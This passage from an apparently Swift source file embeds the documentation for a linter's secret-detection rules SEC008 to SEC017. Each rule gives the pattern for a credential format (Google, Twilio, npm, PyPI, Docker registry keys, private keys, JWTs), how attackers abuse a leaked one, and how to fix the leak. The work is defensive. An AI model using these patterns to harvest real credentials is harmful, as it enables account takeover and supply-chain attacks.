  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC008.md", text: ###"""
---
id: SEC008
title: Google API key committed
kind: any
severity: warning
tags: [security]
security-severity: 6.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://cloud.google.com/docs/authentication/api-keys
  - https://cloud.google.com/docs/authentication/api-keys-best-practices
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "gcp-api-key"
---
Reports Google API keys (`AIza` and 35 characters). A warning rather than an error: browser keys (Maps, Firebase) are shipped to clients and are safe only when restricted by referrer and API.

## Detectors
| detector | matches |
|---|---|
| `google-api-key` | `AIza` and 35 URL-safe characters |

## Why
An unrestricted API key bills every call to your project; keys that reach server APIs (Gemini, Cloud APIs) are credentials in the full sense.

## How to fix
Restrict the key (application and API restrictions) or rotate it in the Cloud console, and inject server-side keys from Secret Manager or the environment.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dockerfile
ENV GOOGLE_MAPS_API_KEY=AIza…
```

Not reported:

```dockerfile
# passed at run time: docker run -e GOOGLE_MAPS_API_KEY …
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC009.md", text: ###"""
---
id: SEC009
title: Google OAuth client secret committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://developers.google.com/identity/protocols/oauth2
  - https://support.google.com/cloud/answer/6158849
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
---
Reports Google OAuth 2.0 client secrets (`GOCSPX-` and 28 characters).

## Detectors
| detector | matches |
|---|---|
| `google-oauth-client-secret` | `GOCSPX-` and 28 URL-safe characters |

## Why
With the client secret, anyone can impersonate your application in OAuth flows and exchange authorization codes for users' tokens.

## How to fix
Reset the client secret in the Google Cloud console (APIs & Services → Credentials) and provide it to the service from a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
GOOGLE_CLIENT_SECRET=GOCSPX-…
```

Not reported:

```yaml
environment:
  GOOGLE_CLIENT_SECRET: ${GOOGLE_CLIENT_SECRET:?set GOOGLE_CLIENT_SECRET}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC010.md", text: ###"""
---
id: SEC010
title: Private key committed
kind: any
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://www.rfc-editor.org/rfc/rfc7468
  - https://kubernetes.io/docs/concepts/configuration/secret/#tls-secrets
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "private-key"
  trufflehog: "PrivateKey"
  checkov: "CKV_SECRET_13"
---
Reports PEM private key blocks — RSA, EC, DSA, OpenSSH, encrypted PKCS#8, PGP and plain `PRIVATE KEY` — by their `-----BEGIN … PRIVATE KEY-----` line, when a key body follows. The finding points at the BEGIN line; the body is redacted. `...` placeholders and certificates (`BEGIN CERTIFICATE`, public) are not reported.

## Detectors
| detector | matches |
|---|---|
| `private-key` | `-----BEGIN [RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP ]PRIVATE KEY[ BLOCK]-----` followed by a key body (a run of 40+ base64 characters before the END line) |

## Why
A private key proves identity: TLS keys let an attacker impersonate your site, SSH deploy keys open your repositories and servers, signing keys forge releases.

## How to fix
Treat the key as compromised: revoke its certificate or remove the public key from `authorized_keys`/deploy keys, issue a new key pair, and keep the private key in a secret store (cert-manager for TLS in Kubernetes, a Secret created outside git, SOPS or sealed-secrets).

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
stringData:
  tls.key: |
    -----BEGIN RSA PRIVATE KEY-----
    MIIE…
```

Not reported:

```yaml
# cert-manager issues and renews the key; nothing secret is committed
apiVersion: cert-manager.io/v1
kind: Certificate
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC011.md", text: ###"""
---
id: SEC011
title: JSON Web Token committed
kind: any
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://www.rfc-editor.org/rfc/rfc7519
  - https://www.rfc-editor.org/rfc/rfc8725
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "jwt"
  trufflehog: "JWT"
  checkov: "CKV_SECRET_9"
---
Reports signed JSON Web Tokens: three base64url segments whose header decodes to JSON with an `alg` and whose signature is at least 16 characters. A warning: some JWTs are public (anon keys meant for browsers), many are bearer credentials.

## Detectors
| detector | matches |
|---|---|
| `jwt` | `eyJ…​.eyJ…​.<signature>` whose header decodes to JSON with an `alg` and whose signature has 16+ characters |

## Why
A JWT is a bearer token: whoever presents it is trusted for its claims until it expires, and long-lived service tokens often never do.

## How to fix
Revoke or expire the token (rotate the signing key if the token cannot be revoked), and fetch short-lived tokens at run time instead of committing them.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
- run: curl -H "Authorization: Bearer eyJhbGciOi…" https://api.example.test
```

Not reported:

```yaml
- run: curl -H "Authorization: Bearer $API_TOKEN" https://api.example.test
  env:
    API_TOKEN: ${{ secrets.API_TOKEN }}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC012.md", text: ###"""
---
id: SEC012
title: SendGrid API key committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://www.twilio.com/docs/sendgrid/ui/account-and-settings/api-keys
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "sendgrid-api-token"
  trufflehog: "SendGrid"
---
Reports SendGrid API keys (`SG.` and two URL-safe segments of 22 and 43 characters).

## Detectors
| detector | matches |
|---|---|
| `sendgrid-api-key` | `SG.`, 22 URL-safe characters, `.`, 43 URL-safe characters |

## Why
A SendGrid key sends mail from your verified domains: spam and phishing that pass SPF and DKIM, and a suspended account.

## How to fix
Delete the key in SendGrid (Settings → API Keys), create one with only the Mail Send permission, and inject it at run time.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dockerfile
ENV SENDGRID_API_KEY=SG.…
```

Not reported:

```dockerfile
# docker run --env-file /etc/app/secrets.env …
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC013.md", text: ###"""
---
id: SEC013
title: Twilio credential committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://www.twilio.com/docs/iam/api-keys
  - https://www.twilio.com/docs/iam/credentials/api
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "twilio-api-key"
  trufflehog: "Twilio"
  checkov: "CKV_SECRET_18"
---
Reports Twilio API key SIDs (`SK` and 32 hex digits), auth tokens (32 hex digits assigned to a key naming Twilio and a token or secret) and Account SID / auth token pairs (`AC…:…`) on a line that names Twilio. An Account SID alone is an identifier and is not reported.

## Detectors
| detector | matches |
|---|---|
| `twilio-api-key` | `SK` and 32 lower-case hex digits |
| `twilio-auth-token` | 32 hex digits assigned to a key naming Twilio and a token or secret (`TWILIO_AUTH_TOKEN`) |
| `twilio-account-credentials` | `AC<32 hex>:<32 hex>`, an Account SID with its auth token (basic-auth form), on a line that names Twilio |

## Why
Twilio credentials send SMS and place calls billed to your account (toll fraud) and read message logs.

## How to fix
Rotate the auth token or delete the API key in the Twilio console, and pass credentials from a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
TWILIO_AUTH_TOKEN=<32 hex digits>
```

Not reported:

```dotenv
TWILIO_AUTH_TOKEN=${TWILIO_AUTH_TOKEN}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC014.md", text: ###"""
---
id: SEC014
title: npm token committed
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.npmjs.com/about-access-tokens
  - https://docs.npmjs.com/using-private-packages-in-a-ci-cd-workflow
  - https://docs.docker.com/build/building/secrets/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "npm-access-token"
  trufflehog: "NpmToken"
  checkov: "CKV_SECRET_12"
---
Reports npm access tokens (`npm_` and 36 characters) and literal `.npmrc` credentials (`_authToken=`, `_auth=`, `_password=`), typically written by a Dockerfile `RUN echo … > .npmrc`.

## Detectors
| detector | matches |
|---|---|
| `npm-access-token` | `npm_` and 36 letters or digits |
| `npmrc-auth-token` | `_authToken=`, `_auth=` or `_password=` (`.npmrc` syntax) with a literal of 8+ characters |

## Why
A publish-capable npm token lets an attacker push a malicious version of your packages to everyone who installs them; a token echoed in a Dockerfile also stays in the image layer.

## How to fix
Revoke the token on npmjs.com, use a granular read-only token for installs, and mount `.npmrc` as a BuildKit secret (`RUN --mount=type=secret,id=npmrc,target=/root/.npmrc pnpm install`).

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dockerfile
RUN echo "//registry.npmjs.org/:_authToken=npm_…" > .npmrc && pnpm install
```

Not reported:

```dockerfile
# syntax=docker/dockerfile:1
RUN --mount=type=secret,id=npmrc,target=/root/.npmrc pnpm install --frozen-lockfile
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC015.md", text: ###"""
---
id: SEC015
title: PyPI API token committed
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://pypi.org/help/#apitoken
  - https://docs.pypi.org/trusted-publishers/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "pypi-upload-token"
  trufflehog: "PyPI"
---
Reports PyPI and TestPyPI API tokens (`pypi-AgEIcHlwaS5vcmc…`, `pypi-AgENdGVzdC5weXBpLm9yZw…`).

## Detectors
| detector | matches |
|---|---|
| `pypi-token` | `pypi-AgEIcHlwaS5vcmc` (pypi.org) or `pypi-AgENdGVzdC5weXBpLm9yZw` (test.pypi.org) and 50+ URL-safe characters |

## Why
An upload token publishes releases of your packages: a supply-chain attack on everyone who installs them.

## How to fix
Delete the token on pypi.org (Account settings → API tokens) and switch the workflow to Trusted Publishing (OIDC, `pypa/gh-action-pypi-publish` with `id-token: write`), which needs no stored token.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
env:
  TWINE_PASSWORD: pypi-AgEIcHlwaS5vcmc…
```

Not reported:

```yaml
permissions:
  id-token: write
steps:
  - uses: pypa/gh-action-pypi-publish@<full-sha>
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC016.md", text: ###"""
---
id: SEC016
title: Docker registry credential committed
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.docker.com/reference/cli/docker/login/#credential-stores
  - https://docs.docker.com/security/for-developers/access-tokens/
  - https://kubernetes.io/docs/tasks/configure-pod-container/pull-image-private-registry/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  trufflehog: "Dockerhub"
---
Reports Docker Hub access tokens (`dckr_pat_`, `dckr_oat_`), Docker `config.json` entries (`"auth": "<base64 of user:password>"` with a non-empty password) and Kubernetes `.dockerconfigjson` / `.dockercfg` values whose decoded JSON holds an auth, a password or a token.

## Detectors
| detector | matches |
|---|---|
| `docker-hub-access-token` | `dckr_pat_` or `dckr_oat_` and 27+ URL-safe characters |
| `docker-config-auth` | `"auth": "<base64>"` (Docker `config.json`) whose value decodes to `user:password` with a non-empty password |
| `docker-config-json` | a base64 `.dockerconfigjson` / `.dockercfg` value (Kubernetes `kubernetes.io/dockerconfigjson` Secret) that decodes to an `auth`, `password` or token |

## Why
Registry credentials push images as well as pull them: an attacker can replace the images your clusters run.

## How to fix
Revoke the token or change the password at the registry, prefer short-lived credentials (cloud registry helpers, OIDC, Kubernetes image pull via workload identity), and create pull secrets outside git (`kubectl create secret docker-registry`, external-secrets).

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
type: kubernetes.io/dockerconfigjson
data:
  .dockerconfigjson: eyJhdXRocyI6…
```

Not reported:

```yaml
# created by external-secrets from the registry's secret in the cloud secrets manager
kind: ExternalSecret
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC017.md", text: ###"""
---
id: SEC017
title: Database URL with an inline password
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://www.postgresql.org/docs/current/libpq-connect.html#LIBPQ-CONNSTRING-URIS
  - https://www.rfc-editor.org/rfc/rfc3986#section-3.2.1
